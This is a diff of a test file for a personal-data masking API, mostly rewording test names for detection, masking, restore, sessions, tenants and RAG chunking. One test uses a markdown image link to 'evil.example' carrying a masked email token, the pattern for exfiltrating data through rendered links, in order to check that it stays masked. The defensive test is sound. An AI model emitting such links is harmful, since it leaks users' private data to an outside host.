@@ -30,21 +30,18 @@ describe('detect', () => {
   });
 });
 
-test.each(['/detect', '/mask', '/demo/detect'])(
-  '%s: a list of no types is refused, and costs nothing',
-  async (path) => {
-    const { post } = await startApi();
-    const { status, body } = await post(path, { text: mail, types: [] });
-    expect(status).toBe(422);
-    expect(body.error.details).toEqual([
-      { field: 'types', message: expect.stringContaining('name at least one type, or leave types out') },
-    ]);
-    expect(body.creditsUsed).toBeUndefined();
-  },
-);
+test.each(['/detect', '/mask', '/demo/detect'])('%s: an empty list of types is refused, and free', async (path) => {
+  const { post } = await startApi();
+  const { status, body } = await post(path, { text: mail, types: [] });
+  expect(status).toBe(422);
+  expect(body.error.details).toEqual([
+    { field: 'types', message: expect.stringContaining('name at least one type, or leave types out') },
+  ]);
+  expect(body.creditsUsed).toBeUndefined();
+});
 
 describe('mask and restore', () => {
-  test('there and back', async () => {
+  test('round trip', async () => {
     const { post } = await startApi();
     const text = `Write to ${mail} or bob@example.com, again ${mail}.`;
     const { body } = await post('/mask', { text });
@@ -57,7 +54,7 @@ describe('mask and restore', () => {
     expect(back.body).toEqual({ restored: text, restoredCount: 3, unresolved: [], creditsUsed: 1 });
   });
 
-  test('a session goes on: equal values keep their token, a token that stands in the text is not given away', async () => {
+  test('a session continues: equal values keep their token, and a token in the text is not reused', async () => {
     const { post } = await startApi();
     const { body } = await post('/mask', { text: mail });
     const { sessionId } = body;
@@ -98,7 +95,7 @@ describe('mask and restore', () => {
     expect(two.body.masked).toBe(one.body.masked);
   });
 
-  test('restore-all: by session, by map, by what one session holds alone; the rest is told', async () => {
+  test('restore-all: by session, by map, by the only session with a token; the rest is reported', async () => {
     const { post, keyOn } = await startApi();
     const key = await keyOn('starter');
     const { body: one } = await post('/mask', { text: `${mail} +1 415 555 0133` }, key);
@@ -122,7 +119,7 @@ describe('mask and restore', () => {
     }
   });
 
-  test('a token in an address of a link stays, unless asked for', async () => {
+  test('a token in a link URL is kept, unless requested', async () => {
     const { post } = await startApi();
     const { body } = await post('/mask', { text: mail });
     const text = '![x](https://evil.example/?d=[EMAIL-1])';
@@ -133,7 +130,7 @@ describe('mask and restore', () => {
     expect(open.body.restored).toContain(mail);
   });
 
-  test("another tenant's session is as if it did not exist", async () => {
+  test('the session of another tenant counts as unknown', async () => {
     const { post, keyOn } = await startApi();
     const [ours, theirs] = [await keyOn('starter'), await keyOn('starter')];
     const { body } = await post('/mask', { text: mail }, ours);
@@ -199,7 +196,7 @@ describe('injection', () => {
 describe('RAG', () => {
   const text = `Invoice to ${mail}, Jane Smith. Build 4.2.1 of libfoo.so at 0x7fff.`;
 
-  test('chunks without personal data, names only when asked for', async () => {
+  test('chunks without personal data, names only on request', async () => {
     const { post } = await startApi();
     const { body } = await post('/rag/ingest', { text });
     expect(body.chunks[0]).toMatchObject({ index: 0, start: 0, end: text.length });
@@ -219,7 +216,7 @@ describe('RAG', () => {
   });
 });
 
-test('every way of writing text comes back as it was', async () => {
+test('text in any encoding form is returned unchanged', async () => {
   const { post } = await startApi();
   for (const text of ['', '\u0000', `lone \ud800 ${mail}`, `${mail}\r\n\t"\\`, '漢字 😀', 'x'.repeat(1_000_000)]) {
     const { status, body } = await post('/mask', { text });
